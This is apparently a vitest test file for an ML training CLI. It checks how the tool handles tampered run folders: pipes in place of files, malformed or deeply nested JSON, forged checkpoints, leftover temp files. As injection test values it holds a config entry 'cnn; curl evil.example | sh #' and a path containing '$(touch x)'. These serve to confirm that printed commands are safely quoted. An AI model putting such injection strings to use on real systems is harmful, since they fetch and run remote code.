/** Folders and checkpoints that somebody else has made: pipes in the place of files, values that no run writes. */
import { execFileSync, spawnSync } from 'node:child_process';
import { cp, mkdir, readdir, readFile, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { hostname } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { RunFolder } from '../../ts/cli/run-folder.js';
import { editedCheckpoint, editJson } from '../support/checkpoints.js';
import { cliOnDigits as cli, temporaryFolder } from '../support/cli.js';
import { refusal } from '../support/errors.js';
import { mentions } from '../support/mentions.js';

const RECORDS = ['config.json', 'metrics.jsonl', 'panels.json'];
const onUnix = process.platform !== 'win32';

let folder: Awaited<ReturnType<typeof temporaryFolder>>;
const here = (...names: string[]) => join(folder.path, ...names);
/** A command that does not wait for ever. */
const run = (...args: string[]) =>
  cli(args, {
    cwd: folder.path,
    started: (child) => {
      const timer = setTimeout(() => child.kill('SIGKILL'), 20_000);
      child.on('close', () => clearTimeout(timer));
    },
  });

beforeAll(async () => {
  folder = await temporaryFolder();
  await run('train', 'two-layer-net', '--iterations', '20', '--hidden-size', '8', '--out', 'whole');
});
beforeEach(async () => {
  await rm(here('run'), { recursive: true, force: true });
  await cp(here('whole'), here('run'), { recursive: true });
});
afterAll(() => folder[Symbol.asyncDispose]());

describe.runIf(onUnix)('something else in the place of a file', () => {
  const places: [string, (path: string) => Promise<unknown>][] = [
    ['a pipe', async (path) => execFileSync('mkfifo', [path])],
    ['a link to a device', (path) => symlink('/dev/zero', path)],
    ['a folder', (path) => mkdir(path)],
  ];

  test.each(places)('%s is an error of report, and a finding of doctor', async (_, put) => {
    for (const name of RECORDS) {
      const path = here('run', name);
      const bytes = await readFile(path);
      await rm(path);
      await put(path);
      const [report, doctor] = await Promise.all([run('report', 'run'), run('doctor', 'run')]);
      expect(report.code, report.stderr).toBe(1);
      expect(report.stderr).toMatch(mentions('badak', name));
      expect(doctor.code, doctor.stdout).toBe(1);
      expect(doctor.stdout).toMatch(new RegExp(`^✗ ${name}`, 'm'));
      await rm(path, { recursive: true });
      await writeFile(path, bytes);
    }
    for (const name of ['checkpoint.safetensors', 'report.html']) {
      await rm(here('run', name));
      await put(here('run', name));
    }
    const { code, stdout } = await run('doctor', 'run');
    expect(code).toBe(1);
    expect(stdout).toMatch(/^✗ checkpoint\.safetensors.*\n(?:.*\n)*✗ report\.html/m);
  });

  test('a link to a file is the file', async () => {
    for (const name of RECORDS) {
      await rm(here('run', name));
      await symlink(here('whole', name), here('run', name));
    }
    expect((await run('doctor', 'run')).code).toBe(0);
  });

  test('of a data set, a picture and a link for replay, too', async () => {
    await mkdir(here('data'), { recursive: true });
    const names = [
      ...['train-images-idx3-ubyte', 'train-labels-idx1-ubyte'],
      ...['t10k-images-idx3-ubyte', 't10k-labels-idx1-ubyte'],
    ];
    for (const name of names) execFileSync('mkfifo', [here('data', name)]);
    const pipe = here('data', names[0]!);
    for (const args of [
      ['train', 'two-layer-net', '--data-dir', 'data', '--out', 'never'],
      ['predict', '--checkpoint', 'run', '--image', pipe],
      ['replay', pipe],
      ['replay', '/dev/zero'],
    ]) {
      const outcome = await run(...args);
      expect(outcome.code, args.join(' ')).toBe(1);
      expect(outcome.stderr).toMatch(mentions('badak', 'pipe or a device'));
    }
  });

  test('a pipe that is typed as a text is read', async () => {
    execFileSync('mkfifo', [here('words.txt')]);
    const writing = writeFile(here('words.txt'), 'you say hello and i say goodbye . '.repeat(40));
    const small = '--epochs 1 --batch-size 20 --hidden-size 4 --window-size 2 --threads 1'.split(' ');
    const { code, stderr } = await run('train', 'cbow', '--text', 'words.txt', ...small, '--out', 'typed');
    await writing;
    expect(code, stderr).toBe(0);
  });
});

test('records that cannot be read are not taken for none, and nothing is written over them', async () => {
  // Longer than a text can be.
  await truncate(here('run/metrics.jsonl'), 600 * 2 ** 20);
  const before = await readFile(here('run/checkpoint.safetensors'));
  const resumed = await run('train', 'two-layer-net', '--resume', 'run', '--iterations', '30');
  expect(resumed.code).toBe(1);
  expect(resumed.stderr).toMatch(mentions('metrics.jsonl'));
  expect(await readFile(here('run/checkpoint.safetensors'))).toEqual(before);
  const doctor = await run('doctor', 'run');
  expect(doctor.stdout).toMatch(/^✗ metrics\.jsonl .*cannot be read/m);
  await expect(new RunFolder(here('run')).readRecords()).rejects.toThrow(refusal('unreadable'));
});

test('records with more metrics than any run has make no table', async () => {
  const line = (i: number) => ({ type: 'eval', step: i, epoch: 0, metrics: { [`m${i}`]: 1 } });
  const lines = Array.from({ length: 101 }, (_, i) => JSON.stringify(line(i)));
  await writeFile(here('run/metrics.jsonl'), `${lines.join('\n')}\n`);
  for (const command of [
    ['report', 'run'],
    ['export', '--run', 'run', '--out', 'x.csv'],
  ] as const) {
    const { code, stderr } = await run(...command);
    expect(code).toBe(1);
    expect(stderr).toMatch(mentions('metrics.jsonl', '101'));
  }
  expect((await run('doctor', 'run')).stdout).toMatch(/^✗ metrics\.jsonl /m);
});

describe('beside the files of a run', () => {
  const UUID = '01234567-89ab-cdef-0123-456789abcdef';
  const resume = ['train', 'two-layer-net', '--iterations', '30', '--resume', 'run'];

  test('a folder in the place of a file that a killed run left is nobody’s, and stays', async () => {
    const name = `config.json.vm-1.${UUID}.tmp`;
    await mkdir(here('run', name, 'x'), { recursive: true });
    const doctor = await run('doctor', 'run');
    expect(doctor.code, doctor.stdout).toBe(0);
    const { code, stderr } = await run(...resume);
    expect(code, stderr).toBe(0);
    expect(await readdir(here('run', name))).toEqual(['x']);
  });

  test('what a process of this machine is still writing is not left over', async () => {
    const nameOf = (pid: number) => `config.json.${hostname().replace(/[^\w-]/g, '-')}-${pid}.${UUID}.tmp`;
    const ended = spawnSync(process.execPath, ['-e', '']).pid;
    for (const pid of [process.pid, ended]) await writeFile(here('run', nameOf(pid)), '');
    expect((await run(...resume)).code).toBe(0);
    const names = await readdir(here('run'));
    expect(names).toContain(nameOf(process.pid));
    expect(names).not.toContain(nameOf(ended));
  });
});

test.each([
  ['"step":-5', /"step":\d+/],
  ['"step":0.5', /"step":\d+/],
  ['"epoch":-1', /"epoch":[\d.]+/],
  ['"epoch":1e999', /"epoch":[\d.]+/],
])('a line with %s in metrics.jsonl is left out, and that is said', async (spoilt, place) => {
  const path = here('run/metrics.jsonl');
  await writeFile(path, (await readFile(path, 'utf8')).replace(place, spoilt));
  const [report, written, doctor] = await Promise.all([
    run('report', 'run'),
    run('export', '--run', 'run', '--out', 'run/board/'),
    run('doctor', 'run'),
  ]);
  for (const { code, stderr } of [report, written]) {
    expect(code, stderr).toBe(0);
    expect(stderr).toMatch(mentions('1 line of metrics.jsonl'));
  }
  expect(doctor.stdout).toMatch(/^✗ metrics\.jsonl .*1 line/m);
});

describe('a command that is printed', () => {
  test('has no words of the files but an experiment that exists', async () => {
    await editJson(here('run/config.json'), (config) => {
      config['experiment'] = 'cnn; curl evil.example | sh #';
    });
    const lines = (await readFile(here('run/metrics.jsonl'), 'utf8')).split('\n');
    await writeFile(here('run/metrics.jsonl'), `${lines.slice(0, -2).join('\n')}\n`);
    const { code, stdout } = await run('doctor', 'run');
    expect(code).toBe(1);
    expect(stdout).toMatch(/^✗ config\.json .*cnn; curl/m);
    expect(stdout).not.toContain('train cnn');
  });

  test('has its paths as a shell takes them', async () => {
    const name = 'a $(touch x) run';
    await cp(here('run'), here(name), { recursive: true });
    const lines = (await readFile(here(name, 'metrics.jsonl'), 'utf8')).split('\n');
    await writeFile(here(name, 'metrics.jsonl'), `${lines.slice(0, -2).join('\n')}\n`);
    await rm(here(name, 'report.html'));
    expect((await run('doctor', name)).stdout).toContain(`--resume '${name}'`);
    await writeFile(here(name, 'config.json.01234567-89ab-cdef-0123-456789abcdef.tmp'), '');
    expect((await run('doctor', name)).stdout).toContain(`doctor '${name}' --repair`);
  });
});

describe('config.json', () => {
  const deep = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;

  test.each([
    ['parent', '{}'],
    ['parent', '5'],
    ['parent', '{"seed":0,"params":{"a":{"toString":1}},"step":1}'],
    ['parent', '{"seed":0,"params":{},"step":"x"}'],
    ['badak', deep(1_000_000)],
    ['seed', `"${'x'.repeat(1_000_000)}"`],
    ['params', `{"a":${deep(1_000_000)}}`],
    ['textHash', '"0123"'],
    ['backend', '{"build":"simd","threads":1,"reasons":[],"arithmetic":{"toString":1}}'],
    ['backend', '{"build":"simd","threads":1,"reasons":[],"wide":[]}'],
  ])('with %s of %.40s is damaged', async (key, json) => {
    const path = here('run/config.json');
    await editJson(path, (config) => {
      config[key] = 'HERE';
    });
    await writeFile(
      path,
      (await readFile(path, 'utf8')).replace('"HERE"', () => json),
    );
    const [report, doctor] = await Promise.all([run('report', 'run'), run('doctor', 'run')]);
    expect(report.code).toBe(1);
    expect(report.stderr).toMatch(mentions('config.json', key));
    expect(report.stderr).not.toMatch(/\n {4}at /);
    expect(report.stderr.length).toBeLessThan(1000);
    expect(doctor.stdout).toMatch(/^✗ config\.json/m);
  });

  test('and reports may have more in them, of any depth, which goes no further', async () => {
    const add = async (name: string, count = Infinity) => {
      const lines = (await readFile(here('run', name), 'utf8')).trim().split('\n');
      const put = (line: string, i: number) =>
        i < count ? line.replace('{', () => `{"more":${deep(500_000)},`) : line;
      await writeFile(here('run', name), `${lines.map(put).join('\n')}\n`);
    };
    await add('config.json', 1);
    await add('metrics.jsonl');
    const { code, stderr } = await run('train', 'two-layer-net', '--resume', 'run', '--iterations', '30');
    expect(code, stderr).toBe(0);
    expect(await readFile(here('run/metrics.jsonl'), 'utf8')).not.toContain('more');
  });
});

describe('a checkpoint that no run has written', () => {
  const resume = ['train', 'two-layer-net', '--iterations', '30', '--out', 'never', '--resume'];
  const params =
    (change: (params: Record<string, unknown>) => unknown) => (held: Record<string, unknown>) => {
      held['params'] = change(held['params'] as Record<string, unknown>);
    };

  test.each<[string, readonly string[], (held: Record<string, unknown>) => void]>([
    ['parameters in a list', resume, params(() => [1, 2])],
    ['a parameter that is an object', resume, params((own) => ({ ...own, hiddenSize: { a: 1 } }))],
    ['a parameter of another experiment', resume, params((own) => ({ ...own, bptt: 5 }))],
    ['trials without a search', resume, params((own) => ({ ...own, trials: 5 }))],
    ['a hash that is none', resume, (held) => (held['hashes'] = ['a'.repeat(80)])],
    ['reports that cannot be counted on', resume, (held) => (held['reports'] = Number.MAX_SAFE_INTEGER)],
    [
      'a parent that cannot be written',
      resume,
      (held) => (held['parent'] = { seed: 0, params: { a: { toString: 1 } }, step: 1 }),
    ],
  ])('names itself, and blames nobody who typed: %s', async (_, args, change) => {
    const path = here('run/checkpoint.safetensors');
    await writeFile(here('forged.safetensors'), await editedCheckpoint(path, (_file, held) => change(held)));
    const { code, stderr } = await run(...args, 'forged.safetensors');
    expect(stderr).toMatch(mentions('badak', 'forged.safetensors'));
    expect(code).toBe(1);
  });

  test('with other names of its tensors', async () => {
    const path = here('run/checkpoint.safetensors');
    const bytes = await editedCheckpoint(path, (file) => {
      const [first, ...others] = [...file.tensors].reverse();
      file.tensors = new Map([...others, [`${first![0]}x`, first![1]]]);
    });
    await writeFile(here('forged.safetensors'), bytes);
    for (const args of [[...resume], ['predict', '--image', 'none.png', '--checkpoint']]) {
      const { code, stderr } = await run(...args, 'forged.safetensors');
      expect(stderr).toMatch(mentions('badak', 'forged.safetensors'));
      expect(code).toBe(1);
    }
  });

  test('is no reason for a long message', async () => {
    const path = here('run/checkpoint.safetensors');
    const bytes = await editedCheckpoint(path, (_, held) => {
      held['params'] = { ...(held['params'] as object), ['x'.repeat(500_000)]: 1 };
    });
    await writeFile(here('forged.safetensors'), bytes);
    const { code, stderr } = await run(...resume, 'forged.safetensors');
    expect(code).toBe(1);
    expect(stderr.length).toBeLessThan(2000);
    expect(stderr).toMatch(mentions('forged.safetensors', '--hidden-size'));
  });
});
